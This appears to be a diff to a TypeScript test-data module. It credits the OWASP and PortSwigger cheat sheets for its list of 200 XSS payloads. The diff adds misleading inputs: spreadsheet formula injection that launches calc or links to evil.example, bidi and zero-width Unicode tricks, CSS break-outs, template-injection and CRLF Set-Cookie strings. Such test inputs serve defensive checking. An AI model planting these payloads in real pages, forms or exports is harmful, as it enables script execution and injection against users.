@@ -62,10 +62,33 @@ const CODE = [
   `__proto__"><img src=x onerror=${CALL}>`,
 ];
 
-/** 200 texts that run `hacked()` on a page that takes them for markup, an address or code. All are valid as text. */
+/**
+ * 200 texts that run `hacked()` on a page that takes them for markup, an address or code. All are valid as text.
+ * Ways after the OWASP filter evasion cheat sheet, the PortSwigger cheat sheet and html5sec.org.
+ */
 export const XSS_PAYLOADS: readonly string[] = [
   ...EXITS.flatMap((exit) => ELEMENTS.map((element) => `${exit}${element}`)),
   ...ATTRIBUTES,
   ...CODE,
   ...ATTRIBUTES.map((attribute) => `x${attribute}`),
 ].slice(0, 200);
+
+/** Texts that mislead without a script: formulas of spreadsheets, controls of direction, style, templates, broken encodings. */
+export const ODD_TEXTS: readonly string[] = [
+  '=HYPERLINK("https://evil.example","Refund")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  '-2+3',
+  '\u202Egnp.tnuocca',
+  '\u2066\u202Einverted\u2069',
+  '\u200F\u200Eboth\u061Cways',
+  'z\u200Bero\u200Dwidth\uFEFF',
+  '\uFFFDbroken\uFFFE',
+  'Z\u0351\u036B\u0343\u036A\u0302alg\u0334o',
+  '</style><style>*{display:none}',
+  'background:url(https://evil.example/x.png)',
+  '{{constructor.constructor("hacked()")()}}',
+  '{{ customer }} {{unknown}} ${7*7} <%= 7*7 %>',
+  '%00%0d%0aSet-Cookie: x=1',
+  '$& $1 \\u0000 \\x3cscript\\x3e',
+];
